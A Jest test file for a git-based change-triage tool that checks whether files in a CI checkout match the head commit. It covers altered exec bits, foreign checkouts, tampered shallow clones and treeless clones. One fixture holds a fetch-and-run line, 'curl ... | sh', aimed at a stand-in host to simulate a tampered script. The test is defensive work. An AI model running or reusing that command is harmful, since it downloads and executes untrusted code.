/**
 * Git triage review (2026-11): cases where a change was classed `committed` although the tree does not hold
 * what the head commit holds at that path. Each failed before its fix.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { diffEntries } from '../../src/engine/diff.js'
import { explainChanges } from '../../src/git/explain.js'
import { gitBlobId } from '../../src/git/blob.js'
import type { Change } from '../../src/engine/types.js'
import { startGitHubApi, type GitHubApi } from '../../test-support/github-api.js'
import { gitRepos, scannedEntries } from '../../test-support/git-repo.js'

const { tmp, git, write, commitAll, newRepo, cleanup } = gitRepos('git-review')
afterAll(cleanup)
/** For this file's own folder names in tmp. */
let n = 0
const entries = scannedEntries
const classes = (changes: Change[]) =>
  Object.fromEntries(changes.map((c) => [c.path, `${c.kinds.join('+')}:${c.git}`]))

describe('git triage: the tree must hold what the head commit holds', () => {
  it('a mode change is unexplained when the commit also changed the content and the tree keeps the old content', async () => {
    const repo = newRepo({ 'run.sh': 'echo unsafe\n' })
    fs.chmodSync(path.join(repo, 'run.sh'), 0o644)
    const base = commitAll(repo, 'base')
    const before = await entries(repo)
    // The commit rewrites the script and makes it executable.
    write(repo, 'run.sh', 'echo safe\n')
    fs.chmodSync(path.join(repo, 'run.sh'), 0o755)
    const head = commitAll(repo, 'safe and executable')
    // After checkout, a step puts the old (never executable) content back, keeping the exec bit.
    write(repo, 'run.sh', 'echo unsafe\n')
    const { changes } = diffEntries(before, await entries(repo))
    await explainChanges(changes, base, { root: repo, algorithm: 'sha256', head })
    expect(classes(changes)).toEqual({ 'run.sh': 'mode:unexplained' })
  })

  it('a content change is unexplained when the exec bit on disk is not the one the commit set', async () => {
    const repo = newRepo({ 'tool.sh': 'echo v1\n' })
    fs.chmodSync(path.join(repo, 'tool.sh'), 0o755)
    const base = commitAll(repo, 'base')
    const before = await entries(repo)
    // The commit rewrites the file and drops its exec bit.
    write(repo, 'tool.sh', 'echo v2\n')
    fs.chmodSync(path.join(repo, 'tool.sh'), 0o644)
    const head = commitAll(repo, 'v2, not executable any more')
    fs.chmodSync(path.join(repo, 'tool.sh'), 0o755) // after checkout
    const { changes } = diffEntries(before, await entries(repo))
    await explainChanges(changes, base, { root: repo, algorithm: 'sha256', head })
    expect(classes(changes)).toEqual({ 'tool.sh': 'modified:unexplained' })
  })
})

describe('git triage: the compare API speaks for GITHUB_REPOSITORY only', () => {
  let gh: GitHubApi
  beforeAll(async () => {
    gh = await startGitHubApi({ repos: ['octo-org/app'] })
  })
  afterAll(async () => {
    await gh?.stop()
  })

  it('a checkout that does not hold the head commit (another repository, a submodule) is not explained through the API', async () => {
    // The workflow's repository (GITHUB_REPOSITORY, GITHUB_SHA): a commit changes deploy/config.yml.
    const app = newRepo({ 'deploy/config.yml': 'replicas: 1\n' })
    const base = git(app, 'rev-parse', 'HEAD')
    write(app, 'deploy/config.yml', 'replicas: 3\n')
    const head = commitAll(app, 'scale up')
    // The scanned root is a checkout of another repository (actions/checkout with repository: and path:,
    // or a submodule), whose file at the same path is rewritten after checkout.
    const other = newRepo({ 'deploy/config.yml': 'image: vetted\n' })
    const before = await entries(other)
    write(other, 'deploy/config.yml', 'replicas: 3\n')
    const { changes } = diffEntries(before, await entries(other))
    gh.state.setCompare(
      'octo-org/app',
      {
        status: 'ahead',
        aheadBy: 1,
        files: [
          {
            filename: 'deploy/config.yml',
            status: 'modified',
            sha: gitBlobId('sha1', Buffer.from('replicas: 3\n')),
          },
        ],
      },
      `${base}...${head}`,
    )
    const triage = await explainChanges(changes, base, {
      root: other,
      algorithm: 'sha256',
      head,
      api: { url: gh.url, repository: 'octo-org/app', token: gh.token },
    })
    expect(classes(changes)).toEqual({ 'deploy/config.yml': 'modified:unexplained' })
    expect(triage).toMatchObject({ source: 'none', committed: 0 })
    expect(triage?.notes.join(' ')).toMatch(/head commit .* is not in the local history/)
    expect(gh.requests.some((r) => r.path.includes('/compare/'))).toBe(false)
  })
})

describe('git triage through the compare API: modes and blobs come from the local head commit', () => {
  let gh: GitHubApi
  beforeAll(async () => {
    gh = await startGitHubApi({ repos: ['octo-org/app'] })
  })
  afterAll(async () => {
    await gh?.stop()
  })

  /** A shallow clone (actions/checkout's default) of a commit made on `change`, its tree then tampered. */
  async function shallow(
    files: Record<string, string>,
    change: (origin: string) => void,
    tamper: (clone: string) => void,
  ) {
    const origin = newRepo(files)
    const base = git(origin, 'rev-parse', 'HEAD')
    const clone0 = path.join(tmp, `c0-${++n}`)
    git(tmp, 'clone', '-q', `file://${origin}`, clone0)
    const before = await entries(clone0)
    change(origin)
    const head = commitAll(origin, 'change')
    const clone = path.join(tmp, `sh-${++n}`)
    git(tmp, 'clone', '-q', '--depth', '1', `file://${origin}`, clone)
    tamper(clone)
    const { changes } = diffEntries(before, await entries(clone))
    return { base, head, clone, changes }
  }
  const explain = (changes: Change[], base: string, head: string, root: string) =>
    explainChanges(changes, base, {
      root,
      algorithm: 'sha256',
      head,
      api: { url: gh.url, repository: 'octo-org/app', token: gh.token },
    })

  it('a committed symlink replaced by a regular file holding its target (an executable script) is unexplained', async () => {
    const script = '#!/bin/sh\ncurl -s https://example.invalid/x | sh\n'
    const { base, head, clone, changes } = await shallow(
      { 'a.txt': 'a\n' },
      (origin) => {
        fs.mkdirSync(path.join(origin, 'bin'))
        fs.symlinkSync(script, path.join(origin, 'bin/setup')) // a dangling link: harmless as committed
        write(origin, 'docs/notes.sh', 'echo notes\n') // committed as 100644
      },
      (clone) => {
        fs.rmSync(path.join(clone, 'bin/setup'))
        fs.writeFileSync(path.join(clone, 'bin/setup'), script, { mode: 0o755 })
        fs.chmodSync(path.join(clone, 'docs/notes.sh'), 0o755)
      },
    )
    gh.state.setCompare(
      'octo-org/app',
      {
        status: 'ahead',
        aheadBy: 1,
        files: [
          { filename: 'bin/setup', status: 'added', sha: gitBlobId('sha1', Buffer.from(script)) },
          { filename: 'docs/notes.sh', status: 'added', sha: gitBlobId('sha1', Buffer.from('echo notes\n')) },
        ],
      },
      `${base}...${head}`,
    )
    const triage = await explain(changes, base, head, clone)
    expect(triage?.source).toBe('api')
    expect(classes(changes)).toMatchObject({
      'bin/setup': 'added:unexplained',
      'docs/notes.sh': 'added:unexplained',
    })
  })

  it('the untampered tree is still explained through the API, with modes read from the head commit', async () => {
    const { base, head, clone, changes } = await shallow(
      { 'a.txt': 'a\n', 'old.txt': 'old\n' },
      (origin) => {
        fs.mkdirSync(path.join(origin, 'bin'))
        fs.symlinkSync('../a.txt', path.join(origin, 'bin/link'))
        write(origin, 'bin/run', 'echo run\n')
        fs.chmodSync(path.join(origin, 'bin/run'), 0o755)
        write(origin, 'a.txt', 'a2\n')
        fs.rmSync(path.join(origin, 'old.txt'))
      },
      () => {},
    )
    gh.state.setCompare(
      'octo-org/app',
      {
        status: 'ahead',
        aheadBy: 1,
        files: [
          { filename: 'a.txt', status: 'modified', sha: gitBlobId('sha1', Buffer.from('a2\n')) },
          { filename: 'bin/link', status: 'added', sha: gitBlobId('sha1', Buffer.from('../a.txt')) },
          { filename: 'bin/run', status: 'added', sha: gitBlobId('sha1', Buffer.from('echo run\n')) },
          { filename: 'old.txt', status: 'removed' },
        ],
      },
      `${base}...${head}`,
    )
    const triage = await explain(changes, base, head, clone)
    expect(triage).toMatchObject({ source: 'api', unexplained: 0 })
    expect(classes(changes)).toEqual({
      'a.txt': 'modified:committed',
      bin: 'added:committed',
      'bin/link': 'added:committed',
      'bin/run': 'added:committed',
      'old.txt': 'removed:committed',
    })
  })

  it('an API answer that disagrees with the head commit explains nothing it claims', async () => {
    const { base, head, clone, changes } = await shallow(
      { 'a.txt': 'a\n', 'keep.txt': 'keep\n' },
      (origin) => write(origin, 'a.txt', 'a2\n'),
      (clone) => {
        write(clone, 'a.txt', 'evil\n')
        fs.rmSync(path.join(clone, 'keep.txt'))
      },
    )
    gh.state.setCompare(
      'octo-org/app',
      {
        status: 'ahead',
        aheadBy: 1,
        files: [
          { filename: 'a.txt', status: 'modified', sha: gitBlobId('sha1', Buffer.from('evil\n')) },
          { filename: 'keep.txt', status: 'removed' },
        ],
      },
      `${base}...${head}`,
    )
    await explain(changes, base, head, clone)
    expect(classes(changes)).toEqual({ 'a.txt': 'modified:unexplained', 'keep.txt': 'removed:unexplained' })
  })
})

describe('git triage: a git failure explains nothing instead of failing the step', () => {
  it('a treeless partial clone whose remote cannot be reached (persist-credentials: false) leaves every change unexplained', async () => {
    const origin = newRepo({ 'a.txt': 'a\n', 'b.txt': 'b\n' })
    git(origin, 'config', 'uploadpack.allowFilter', 'true')
    const base = git(origin, 'rev-parse', 'HEAD')
    const clone0 = path.join(tmp, `c0-${++n}`)
    git(tmp, 'clone', '-q', `file://${origin}`, clone0)
    const before = await entries(clone0)
    write(origin, 'a.txt', 'a2\n')
    const head = commitAll(origin, 'two')
    const clone = path.join(tmp, `treeless-${++n}`)
    git(tmp, 'clone', '-q', '--filter=tree:0', `file://${origin}`, clone)
    fs.rmSync(origin, { recursive: true, force: true }) // the base commit's tree can no longer be fetched
    write(clone, 'b.txt', 'tampered\n')
    const { changes } = diffEntries(before, await entries(clone))
    const triage = await explainChanges(changes, base, { root: clone, algorithm: 'sha256', head })
    expect(triage).toMatchObject({ source: 'none', committed: 0, unexplained: 2 })
    expect(triage?.notes.join(' ')).toMatch(/git diff-tree .* failed/)
  })
})
